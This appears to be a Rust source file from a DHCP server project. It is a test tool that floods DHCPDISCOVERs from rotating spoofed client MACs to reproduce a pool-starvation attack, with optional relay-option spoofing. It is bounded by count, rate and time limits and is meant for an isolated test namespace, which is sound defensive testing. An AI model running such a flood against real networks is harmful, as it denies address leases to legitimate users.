//! Test tool: a bounded flood of DHCPDISCOVERs from rotating client MACs, the pool
//! starvation attack of issue #11 (used by `tests/netns_flood.rs`, inside the test's own
//! network namespace; never point it at a network you do not own).
//!
//! `tugboot-dhcp-flood --interface IF --count N --rate R [--macs M] [--mac-prefix AA:BB:CC]
//! [--subnet-selection A.B.C.D] [--link-selection A.B.C.D] [--to A.B.C.D:PORT]`
//!
//! Sends N DISCOVERs (at most 1 000 000) at R per second (at most 100 000) from UDP port
//! 68 on IF to 255.255.255.255:67 (or `--to`), broadcast flag set, giaddr 0; client MAC
//! (chaddr) number i is `<prefix>:xx:xx:xx` with xx = i mod M (default M = N). The
//! Ethernet source stays the interface's own address: a DHCP server reads chaddr, not
//! the frame header. `--subnet-selection` adds option 118, `--link-selection` option 82
//! sub-option 5: relay options a client on the local link must not be able to use. Prints
//! `sent <n>` every 100 datagrams and `done <n>` at the end; stops after 120 s whatever N.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::{Context, bail};

const MAX_COUNT: u64 = 1_000_000;
const MAX_RATE: u64 = 100_000;
const MAX_RUN: Duration = Duration::from_secs(120);

fn discover(
    mac: [u8; 6],
    xid: u32,
    subnet_sel: Option<Ipv4Addr>,
    link_sel: Option<Ipv4Addr>,
) -> Vec<u8> {
    let mut b = vec![1u8, 1, 6, 0];
    b.extend_from_slice(&xid.to_be_bytes());
    b.extend_from_slice(&[0, 0, 0x80, 0]); // secs, flags = broadcast
    b.extend_from_slice(&[0; 16]); // ciaddr, yiaddr, siaddr, giaddr
    b.extend_from_slice(&mac);
    b.extend_from_slice(&[0; 10 + 64 + 128]);
    b.extend_from_slice(&[99, 130, 83, 99, 53, 1, 1]);
    if let Some(a) = subnet_sel {
        b.extend_from_slice(&[118, 4]);
        b.extend_from_slice(&a.octets());
    }
    if let Some(a) = link_sel {
        b.extend_from_slice(&[82, 6, 5, 4]);
        b.extend_from_slice(&a.octets());
    }
    b.push(255);
    b.resize(300, 0);
    b
}

fn main() -> anyhow::Result<()> {
    let mut interface = None;
    let mut count = 1000u64;
    let mut rate = 1000u64;
    let mut macs = None;
    let mut prefix = [0x02u8, 0x66, 0x66];
    let mut subnet_sel = None;
    let mut link_sel = None;
    let mut to = SocketAddrV4::new(Ipv4Addr::BROADCAST, 67);
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        let mut value = || args.next().with_context(|| format!("{a} needs a value"));
        match a.as_str() {
            "--interface" => interface = Some(value()?),
            "--count" => count = value()?.parse().context("--count")?,
            "--rate" => rate = value()?.parse().context("--rate")?,
            "--macs" => macs = Some(value()?.parse::<u64>().context("--macs")?),
            "--mac-prefix" => {
                let v = value()?;
                let parts: Vec<u8> = v
                    .split(':')
                    .map(|p| u8::from_str_radix(p, 16))
                    .collect::<Result<_, _>>()
                    .context("--mac-prefix: three hex bytes")?;
                prefix = parts
                    .try_into()
                    .map_err(|_| anyhow::anyhow!("--mac-prefix: three hex bytes"))?;
            }
            "--subnet-selection" => {
                subnet_sel = Some(value()?.parse().context("--subnet-selection")?)
            }
            "--link-selection" => link_sel = Some(value()?.parse().context("--link-selection")?),
            "--to" => to = value()?.parse().context("--to")?,
            other => bail!("unknown argument {other:?}"),
        }
    }
    if !(1..=MAX_COUNT).contains(&count) || !(1..=MAX_RATE).contains(&rate) {
        bail!("--count must be 1..={MAX_COUNT} and --rate 1..={MAX_RATE}");
    }
    let macs = macs.unwrap_or(count).clamp(1, 1 << 24);
    let interface = interface.context("--interface is required")?;
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .context("runtime")?;
    rt.block_on(async move {
        let std = std::net::UdpSocket::bind(SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, 68))
            .context("bind UDP port 68")?;
        std.set_broadcast(true).context("SO_BROADCAST")?;
        std.set_nonblocking(true).context("non-blocking")?;
        let sock = tokio::net::UdpSocket::from_std(std).context("socket")?;
        sock.bind_device(Some(interface.as_bytes()))
            .with_context(|| format!("SO_BINDTODEVICE {interface}"))?;
        let start = Instant::now();
        let mut sent = 0u64;
        for i in 0..count {
            // Pace: datagram i leaves at i/rate seconds.
            let due = Duration::from_secs_f64(i as f64 / rate as f64);
            if let Some(wait) = due.checked_sub(start.elapsed()) {
                tokio::time::sleep(wait).await;
            }
            if start.elapsed() > MAX_RUN {
                break;
            }
            let n = i % macs;
            let [_, _, _, _, _, a, b, c] = n.to_be_bytes();
            let mac = [prefix[0], prefix[1], prefix[2], a, b, c];
            let xid = u32::try_from(i & 0xffff_ffff).unwrap_or(0) ^ 0x5eed_0000;
            let pkt = discover(mac, xid, subnet_sel, link_sel);
            sock.send_to(&pkt, to).await.context("send")?;
            sent += 1;
            if sent.is_multiple_of(100) {
                println!("sent {sent}");
            }
        }
        println!("done {sent}");
        anyhow::Ok(())
    })
}
